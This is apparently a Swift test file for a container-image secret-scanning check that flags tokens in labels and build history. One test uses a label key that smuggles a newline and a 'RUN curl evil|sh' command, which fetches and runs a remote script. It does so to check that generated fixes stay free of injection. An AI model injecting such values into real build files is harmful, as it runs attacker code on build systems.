internal import Checks
internal import TestSupport
internal import Testing

@Suite struct `IMG306 secret-label` {
  @Test func `finds tokens in labels, annotations and the history`() async throws {
    let tokens = SecretSample.tokens.map(\.value)
    let judgement = try await judge(
      "secret-label",
      ImageBuilder(
        layers: [[.file("a", "")]],
        history: ["RUN x", .empty("LABEL old=\(tokens[0])"), .empty("LABEL ci=\(tokens[2])")],
        config: ["Labels": ["ci": .string(tokens[2]), "a": "b"]]
      )
    )
    #expect(
      judgement.findings.map(\.message).map { $0.prefix(while: { $0 != "(" }) } == [
        "a label or an annotation has ci, a GitHub token ",
        "a label or an annotation has old, an AWS access key ",
      ]
    )
    #expect(judgement.findings.allSatisfy { $0.severity == .warning })
    #expect(
      judgement.fixes == [
        "# without LABEL ci; and revoke it: whoever has the image has it",
        "# without LABEL old; and revoke it: whoever has the image has it",
      ]
    )
  }

  @Test func `puts no name into a fix that would act in it`() async throws {
    let image = ImageBuilder(
      [],
      config: ["Labels": .object([("x\nRUN curl evil|sh #.token", "0a1B2c3D4e5F6g7H")])]
    )
    #expect(try await judge("secret-label", image).fixes == ["# without the LABEL"])
  }

  @Test func `passes over what labels are for`() async throws {
    let judgement = try await judge(
      "secret-label",
      ImageBuilder(
        layers: [[.file("a", "")]],
        config: [
          "Labels": [
            "org.opencontainers.image.authors": "me <me@example.com>", "token": "$CI_TOKEN",
            "org.opencontainers.image.revision": "a035c8c19219ba821ecea86b64e628f8d684696d",
            "org.opencontainers.image.source": "https://git.corp/x",
          ]
        ]
      )
    )
    #expect(judgement.outcome == .clean, "\(judgement.findings.map(\.message))")
  }
}
